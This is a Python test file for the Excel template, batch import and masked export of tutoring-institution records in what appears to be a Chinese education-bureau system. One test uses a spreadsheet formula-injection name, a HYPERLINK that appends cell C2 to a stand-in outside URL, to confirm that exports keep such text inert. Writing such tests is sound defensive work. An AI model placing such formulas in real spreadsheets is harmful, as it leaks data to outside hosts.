"""The import template, the batch import (all or nothing, by credit code) and the export,
which imports back unchanged."""

from __future__ import annotations

import asyncio
import io
import zipfile
from datetime import date

import sqlalchemy as sa
from openpyxl import Workbook, load_workbook

from models import Institution, Kind
from resolvers.institutions.importing import MAX_UPLOAD_BYTES
from resolvers.institutions.registration import CHOICES, FIELDS, KIND_DECIDES, NO_SUBJECT_TRAINING_OF_KIND, SPECS, YES_NO, Part
from resolvers.institutions.template import DATA_SHEET, GUIDE_SHEET, HEADER_OF, HEADERS, TEMPLATE_MARK, to_cell
from tests.helpers import ID_NUMBER, PARTS, credit_code, insert_institutions, part_mutation, register, save
from tests.helpers import import_institutions as upload


async def template(http, token: str) -> bytes:
    response = await http.get("/templates/institutions.xlsx", headers={"Authorization": f"Bearer {token}"})
    assert response.status_code == 200
    return response.content


def row(n: int, **changes) -> dict:
    values = {
        "所在区县代码 *": "440106",
        "机构名称 *": f"导入{n}号培训学校",
        "统一社会信用代码 *": credit_code(n),
        "机构地址 *": "广州市天河区体育西路 1 号",
        "邮政编码": "510620",
        "机构类型 *": "学科类",
        "办学形式 *": "线下",
        "机构性质 *": "非营利性",
        "法定代表人姓名 *": "王五",
        "法定代表人身份证号 *": ID_NUMBER,
        "法定代表人手机号 *": "13800138000",
        "联系人姓名 *": "赵六",
        "联系人手机号 *": "13900139000",
    }
    values.update(changes)
    return values


FULL_PARTS = {
    "办学资质情况": "有照无证",
    "营业执照/民办非企业单位登记证书编号": "52440106MJL000009X",
    "营业执照/登记证书登记机关": "广州市天河区民政局",
    "培训类别": "学科类、其他类",
    "其他培训类别": "研学",
    "在读学生数": 120,
    "从业人员数": 12,
    "专职教师数": 8,
    "无中小学学科类培训": "否",
    "培训学科": "数学、英语",
    "培训学段": "初中",
    "上课时间": "周六、周日 09:00-12:00",
    "一次收费最长覆盖月数": 3,
    "收费标准（元/课时）": 60,
    "建筑面积（平方米）": 300,
    "教学面积（平方米）": 200.5,
    "场地性质": "自有",
    "通过消防验收": "是",
}


def fill(template_bytes: bytes, rows: list[dict]) -> bytes:
    wb = load_workbook(io.BytesIO(template_bytes))
    sheet = wb[DATA_SHEET]
    for number, values in enumerate(rows, start=2):
        for column, title in enumerate(HEADERS, start=1):
            sheet.cell(row=number, column=column, value=values.get(title.removesuffix(" *") if title not in values else title))
    out = io.BytesIO()
    wb.save(out)
    return out.getvalue()


async def test_template_has_a_column_per_field_drop_downs_and_instructions(http, gql, demo):
    assert (await http.get("/templates/institutions.xlsx")).status_code == 401
    county = await gql.login("edu-440106")
    wb = load_workbook(io.BytesIO(await template(http, county)))
    assert wb.sheetnames == [DATA_SHEET, "_lists", GUIDE_SHEET, "_template"]
    sheet = wb[DATA_SHEET]
    headers = [c.value for c in next(sheet.iter_rows(max_row=1))]
    assert headers == HEADERS and len(headers) == 40
    assert [h for h in headers if h.endswith("*")] == [
        "所在区县代码 *", "机构名称 *", "统一社会信用代码 *", "机构地址 *", "机构类型 *", "办学形式 *", "机构性质 *",
        "法定代表人姓名 *", "法定代表人身份证号 *", "法定代表人手机号 *", "联系人姓名 *", "联系人手机号 *",
    ]
    lists = {str(dv.sqref).split(":")[0].rstrip("0123456789"): dv.formula1 for dv in sheet.data_validations.dataValidation}
    kind_column = sheet.cell(row=1, column=headers.index("机构类型 *") + 1).column_letter
    kind_values = [c.value for c in wb["_lists"]["A"] if c.value]
    assert kind_values == ["学科类", "非学科类"] and lists[kind_column] == "_lists!$A$1:$A$2"
    guide = list(wb[GUIDE_SHEET].iter_rows(values_only=True))
    # the instruction sheet names each column's part as the form does, never its code
    parts = {r[0]: r[1] for r in guide[1:] if r and r[0] and r[0] in HEADERS}
    assert parts["办学许可证编号"] == "2 办学资质" and parts["机构名称 *"] == "1 基本情况" and parts["通过消防验收"] == "5 办学条件"
    assert set(parts.values()) == {"—", "1 基本情况", "2 办学资质", "3 办学情况", "4 中小学学科类培训情况", "5 办学条件"}
    assert wb["_template"]["A1"].value == TEMPLATE_MARK


async def test_import_creates_then_updates_by_credit_code(http, gql, demo, sessionmaker):
    county = await gql.login("edu-440106")
    content = fill(await template(http, county), [row(1), row(2, **FULL_PARTS), row(3, **{"无中小学学科类培训": "是", "机构类型 *": "非学科类"})])
    # when
    first = await upload(http, county, content)
    # then
    assert first == {"data": {"importInstitutions": {"created": 3, "updated": 0, "rows": 3, "errors": []}}}
    async with sessionmaker() as db:
        rows = {r.name: r for r in (await db.execute(sa.select(Institution))).scalars()}
    full = rows["导入2号培训学校"]
    assert (full.qualification_status, full.licence_number, full.training_categories, full.other_category) == ("BUSINESS_LICENCE_ONLY", None, ["SUBJECT", "OTHER"], "研学")
    assert (str(full.teaching_area), full.subjects, full.fire_safety_approved) == ("200.50", ["MATHEMATICS", "ENGLISH"], True)
    assert all((full.qualifications_saved, full.operation_saved, full.subject_training_saved, full.facilities_saved))
    only_basics = rows["导入1号培训学校"]
    assert not any((only_basics.qualifications_saved, only_basics.operation_saved, only_basics.facilities_saved))
    assert rows["导入3号培训学校"].subject_training_saved and rows["导入3号培训学校"].no_subject_training
    # a re-import of the same file updates rather than duplicates
    again = await upload(http, county, content)
    assert again == {"data": {"importInstitutions": {"created": 0, "updated": 3, "rows": 3, "errors": []}}}
    listed = await gql("{ institutions { totalCount } }", token=county)
    assert listed["data"]["institutions"]["totalCount"] == 3


async def test_one_bad_row_and_nothing_is_written(http, gql, demo, sessionmaker):
    county = await gql.login("edu-440106")
    rows = [
        row(1),
        row(2, **{"统一社会信用代码 *": "91440106MA5C000029"}),
        row(3, **{"所在区县代码 *": "440104"}),
        row(4, **{"机构类型 *": "学前类"}),
        row(5, **{**FULL_PARTS, "教学面积（平方米）": 301}),
        row(6, **{"统一社会信用代码 *": credit_code(1)}),
        row(7, **{"办学资质情况": "证照齐全"}),
    ]
    result = await upload(http, county, fill(await template(http, county), rows))
    payload = result["data"]["importInstitutions"]
    assert (payload["created"], payload["updated"]) == (0, 0)
    assert [(e["row"], e["column"], e["code"]) for e in payload["errors"]] == [
        (3, "统一社会信用代码 *", "INVALID"),
        (4, "所在区县代码 *", "OUT_OF_SCOPE"),
        (5, "机构类型 *", "INVALID"),
        (6, "教学面积（平方米）", "INVALID"),
        (7, "统一社会信用代码 *", "DUPLICATE"),
        (8, "办学许可证编号", "REQUIRED"),
        (8, "办学许可证发证机关", "REQUIRED"),
        (8, "办学许可证有效期起", "REQUIRED"),
        (8, "办学许可证有效期止", "REQUIRED"),
        (8, "营业执照/民办非企业单位登记证书编号", "REQUIRED"),
        (8, "营业执照/登记证书登记机关", "REQUIRED"),
    ]
    assert payload["errors"][4]["message"] == "与第 2 行的统一社会信用代码重复"
    async with sessionmaker() as db:
        assert (await db.execute(sa.select(sa.func.count()).select_from(Institution))).scalar() == 0


async def test_a_credit_code_registered_elsewhere_is_an_error(http, gql, demo):
    beside = await gql.login("edu-440104")
    await register(gql, beside, 1, division="440106", parts=())  # a 440106 code registered by 越秀
    county = await gql.login("edu-440106")
    result = await upload(http, county, fill(await template(http, county), [row(1)]))
    assert result["data"]["importInstitutions"]["errors"] == [
        {"row": 2, "column": "统一社会信用代码 *", "code": "DUPLICATE", "message": "该统一社会信用代码已由其他地区登记，请与当地教育部门核实"}
    ]


async def test_bad_files_get_clear_errors(http, gql, demo):
    county = await gql.login("edu-440106")
    other = Workbook()
    other.active.append(["姓名", "年龄"])
    other_bytes = io.BytesIO()
    other.save(other_bytes)
    cases = [
        (b"", "EMPTY_FILE"),
        (b"name,credit code\nx,y\n", "NOT_XLSX"),
        (b"PK\x03\x04" + b"\x00" * 100, "NOT_XLSX"),
        (other_bytes.getvalue(), "WRONG_TEMPLATE"),
        (b"\x00" * (MAX_UPLOAD_BYTES + 1), "FILE_TOO_LARGE"),
    ]
    for content, code in cases:
        result = await upload(http, county, content)
        errors = result["data"]["importInstitutions"]["errors"]
        assert [e["code"] for e in errors] == [code], (code, errors)
        assert errors[0]["message"]


async def test_the_template_as_downloaded_imports_as_no_rows(http, gql, demo):
    county = await gql.login("edu-440106")
    result = await upload(http, county, await template(http, county))
    assert result == {"data": {"importInstitutions": {"created": 0, "updated": 0, "rows": 0, "errors": []}}}


async def test_only_the_county_desk_imports(http, gql, demo):
    province = await gql.login("edu-440000")
    result = await upload(http, province, fill(await template(http, province), [row(1)]))
    assert [e["extensions"]["code"] for e in result["errors"]] == ["FORBIDDEN"]


async def test_export_is_scoped_filtered_and_imports_back_unchanged(http, gql, demo, sessionmaker):
    county = await gql.login("edu-440106")
    await register(gql, county, 1)
    await register(gql, county, 2, parts=("Operation",), name="部分登记培训学校")
    await insert_institutions(sessionmaker, {"edu-440104": 2, "edu-420102": 1})

    async def export(token: str, query: str = "") -> list[tuple]:
        response = await http.get(f"/exports/institutions.xlsx{query}", headers={"Authorization": f"Bearer {token}"})
        assert response.status_code == 200, response.text
        sheet = load_workbook(io.BytesIO(response.content), read_only=True)[DATA_SHEET]
        return list(sheet.iter_rows(values_only=True))

    # scope: the county its own, the prefecture its counties, the province not Hubei's
    assert len(await export(county)) == 1 + 2
    assert len(await export(await gql.login("edu-440100"))) == 1 + 4
    assert [r[1] for r in (await export(county, "?complete=false"))[1:]] == ["部分登记培训学校"]
    assert (await http.get("/exports/institutions.xlsx?complete=maybe", headers={"Authorization": f"Bearer {county}"})).status_code == 400
    assert (await http.get("/exports/institutions.xlsx")).status_code == 401

    # round trip: the county's export imports back with nothing changed
    async with sessionmaker() as db:
        before = {r.credit_code: {k: v for k, v in r.model_dump().items() if k not in ("updated_at", "version")} for r in (await db.execute(sa.select(Institution))).scalars()}
        versions = dict((await db.execute(sa.select(Institution.credit_code, Institution.version))).all())
    response = await http.get("/exports/institutions.xlsx", headers={"Authorization": f"Bearer {county}"})
    result = await upload(http, county, response.content)
    assert result == {"data": {"importInstitutions": {"created": 0, "updated": 2, "rows": 2, "errors": []}}}
    async with sessionmaker() as db:
        after = {r.credit_code: {k: v for k, v in r.model_dump().items() if k not in ("updated_at", "version")} for r in (await db.execute(sa.select(Institution))).scalars()}
        versions_after = dict((await db.execute(sa.select(Institution.credit_code, Institution.version))).all())
    assert after == before
    # the rows the county re-imported count as saved once more; the others are untouched
    assert {code: versions_after[code] - versions[code] for code in versions} == {code: int(code[2:8] == "440106") for code in versions}


async def test_concurrent_imports_of_the_same_file_never_duplicate(http, gql, demo, sessionmaker):

    county = await gql.login("edu-440106")
    content = fill(await template(http, county), [row(1), row(2)])
    results = [r["data"]["importInstitutions"] for r in await asyncio.gather(upload(http, county, content), upload(http, county, content))]
    # one creates; the other either updates (it ran after) or is refused whole (it raced)
    outcomes = sorted((r["created"], r["updated"], [e["code"] for e in r["errors"]]) for r in results)
    assert outcomes in ([(0, 0, ["DUPLICATE"]), (2, 0, [])], [(0, 2, []), (2, 0, [])])
    async with sessionmaker() as db:
        assert (await db.execute(sa.select(sa.func.count()).select_from(Institution))).scalar() == 2


async def exported(http, token: str) -> list[tuple]:
    response = await http.get("/exports/institutions.xlsx", headers={"Authorization": f"Bearer {token}"})
    assert response.status_code == 200, response.text
    wb = load_workbook(io.BytesIO(response.content), read_only=True)
    try:
        return list(wb[DATA_SHEET].iter_rows(values_only=True))
    finally:
        wb.close()


async def test_exports_mask_personal_data_except_for_the_county_desk(http, gql, demo):
    county = await gql.login("edu-440106")
    await register(gql, county, 1, parts=())
    columns = [HEADERS.index(h) for h in ("法定代表人身份证号 *", "法定代表人手机号 *", "联系人手机号 *")]
    own = (await exported(http, county))[1]
    assert [own[i] for i in columns] == [ID_NUMBER, "13800138000", "13900139000"]
    for username in ("edu-440100", "edu-440000", "edu-000000"):
        row = (await exported(http, await gql.login(username)))[1]
        assert [row[i] for i in columns] == ["110***********002X", "138****8000", "139****9000"], username
    # Only the unmasked export is a recorded read of personal data.
    trail = '{ auditRecords(filter: {operation: "exportInstitutions"}) { edges { node { username recordType } } } }'
    records = (await gql(trail, token=county))["data"]["auditRecords"]["edges"]
    assert [r["node"] for r in records] == [{"username": "edu-440106", "recordType": "InstitutionExport"}]


async def test_text_that_looks_like_a_formula_is_exported_as_text_and_round_trips(http, gql, demo, sessionmaker):
    county = await gql.login("edu-440106")
    await register(gql, county, 1, parts=(), name='=HYPERLINK("http://x.example/"&C2,"点此")')
    response = await http.get("/exports/institutions.xlsx", headers={"Authorization": f"Bearer {county}"})
    with io.BytesIO(response.content) as raw:

        sheet_xml = zipfile.ZipFile(raw).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml
    result = await upload(http, county, response.content)
    assert result == {"data": {"importInstitutions": {"created": 0, "updated": 1, "rows": 1, "errors": []}}}
    async with sessionmaker() as db:
        assert (await db.execute(sa.select(Institution.name))).scalar_one() == '=HYPERLINK("http://x.example/"&C2,"点此")'


async def test_odd_cells_are_row_errors_in_chinese(http, gql, demo):
    county = await gql.login("edu-440106")
    rows = [
        row(1, **{**FULL_PARTS, "在读学生数": "²"}),
        row(2, **{**FULL_PARTS, "建筑面积（平方米）": "1e9999999"}),
        row(3, **{**FULL_PARTS, "办学许可证有效期起": "明年"}),
        row(4, **{"机构名称 *": "换行\n名称"}),
    ]
    result = await upload(http, county, fill(await template(http, county), rows))
    assert [(e["row"], e["column"], e["code"], e["message"]) for e in result["data"]["importInstitutions"]["errors"]] == [
        (2, "在读学生数", "INVALID", "在读学生数应为不小于 0 的整数"),
        (3, "建筑面积（平方米）", "INVALID", "建筑面积（平方米）应为数字"),
        (4, "办学许可证有效期起", "INVALID", "办学许可证有效期起应为日期，格式 YYYY-MM-DD"),
        (5, "机构名称 *", "INVALID", "机构名称不能包含换行、制表符等控制字符"),
    ]


async def test_a_damaged_xlsx_is_not_xlsx(http, gql, demo):

    county = await gql.login("edu-440106")
    good = fill(await template(http, county), [row(1)])
    for damaged_part in ("xl/workbook.xml", "xl/worksheets/sheet1.xml"):
        source = zipfile.ZipFile(io.BytesIO(good))
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w") as target:
            for item in source.infolist():
                data = source.read(item.filename)
                target.writestr(item, data[: len(data) // 2] if item.filename == damaged_part else data)
        result = await upload(http, county, out.getvalue())
        assert [e["code"] for e in result["data"]["importInstitutions"]["errors"]] == ["NOT_XLSX"], damaged_part


async def test_a_row_reports_all_its_problems_at_once(http, gql, demo):
    # given: a row with a missing name, a bad credit code, a kind that cannot be read and a
    # licence number under 无证无照
    county = await gql.login("edu-440106")
    bad = row(1, **{"机构名称 *": None, "统一社会信用代码 *": "91440106MA5C000019", "机构类型 *": "学前类", "办学资质情况": "无证无照", "办学许可证编号": "教民1号"})
    # when
    result = await upload(http, county, fill(await template(http, county), [bad]))
    # then: every one of them
    assert [(e["row"], e["column"], e["code"]) for e in result["data"]["importInstitutions"]["errors"]] == [
        (2, "机构类型 *", "INVALID"),
        (2, "机构名称 *", "REQUIRED"),
        (2, "统一社会信用代码 *", "INVALID"),
        (2, "办学许可证编号", "NOT_APPLICABLE"),
    ]


def _camel(key: str) -> str:
    head, *rest = key.split("_")
    return head + "".join(w.title() for w in rest)


def _cell(spec, value):
    """A GraphQL input value as the template's cell holds it."""
    if value is None or value == []:
        return None
    if spec.type == "date":
        value = date.fromisoformat(value)
    elif spec.type == "decimal":
        return float(value)
    return to_cell(spec, value)


def _cases():
    """For each field that another decides (``FieldSpec.when``): the part with the field left
    empty where it applies, and filled in where it does not; with the kind the part needs."""
    for spec in FIELDS:
        if spec.when is None:
            continue
        part = "".join(w.title() for w in spec.part.value.split("_"))  # SUBJECT_TRAINING: SubjectTraining
        base = {_snake(k): v for k, v in PARTS[part].items()}
        decider = SPECS[spec.when.key]
        options = list(YES_NO) if decider.type == "bool" else list(CHOICES[decider.choices])
        inside = sorted(spec.when.values, key=options.index)[0]
        outside = next(o for o in options if o not in spec.when.values)
        if decider.type == "multi":
            applies, not_applies = sorted({*base[decider.key], inside}, key=options.index), [v for v in base[decider.key] if v not in spec.when.values]
        else:
            applies, not_applies = inside, outside
        # the helpers' parts leave 其他培训类别 and one of part 4's fee terms out
        filled_in = base[spec.key] if base.get(spec.key) not in (None, []) else {"int": 10}.get(spec.type, "研学实践")
        # a field that applies without being required (one of two fee terms) has no error when left empty
        for decided, value in ((applies, None), (not_applies, filled_in))[0 if spec.when.required else 1:]:
            given = {**base, decider.key: decided, spec.key: value}
            kind = {v: k for k, v in NO_SUBJECT_TRAINING_OF_KIND.items()}[given[KIND_DECIDES]] if spec.part is Part.SUBJECT_TRAINING else "SUBJECT"
            yield spec, part, kind, given


def _snake(key: str) -> str:
    return "".join(f"_{c.lower()}" if c.isupper() else c for c in key)


async def test_the_template_the_import_and_the_forms_agree_on_every_conditional_field(http, gql, demo):
    county = await gql.login("edu-440106")
    guide = {r[0]: r for r in load_workbook(io.BytesIO(await template(http, county)))[GUIDE_SHEET].iter_rows(values_only=True) if r and r[0]}
    cases = list(_cases())
    assert {spec.key for spec, *_ in cases} == {s.key for s in FIELDS if s.when}
    for n, (spec, part, kind, given) in enumerate(cases, start=1):
        # the template says the field's rule in the words of its declaration
        assert spec.condition in guide[HEADER_OF[spec.key]][2], spec.key
        # the form
        institution_id = await register(gql, county, n, parts=(), kind=kind)
        form = await save(gql, part_mutation(part), {"id": institution_id, "input": {_camel(k): v for k, v in given.items()}}, token=county)
        by_form = [(HEADER_OF[_snake(e["field"])], e["code"]) for e in form["data"][f"saveInstitution{part}"]["errors"]]
        # the import: the same part on a row of its own
        cells = {HEADER_OF[key]: _cell(SPECS[key], value) for key, value in given.items()}
        kind_header = HEADER_OF["kind"]
        filled = row(100 + n, **{kind_header: CHOICES[Kind][kind], **cells})
        by_import = [(e["column"], e["code"]) for e in (await upload(http, county, fill(await template(http, county), [filled])))["data"]["importInstitutions"]["errors"]]
        assert by_form == by_import and by_form, (spec.key, given, by_form, by_import)
        assert {code for _, code in by_form} <= {"REQUIRED", "NOT_APPLICABLE"}, (spec.key, by_form)
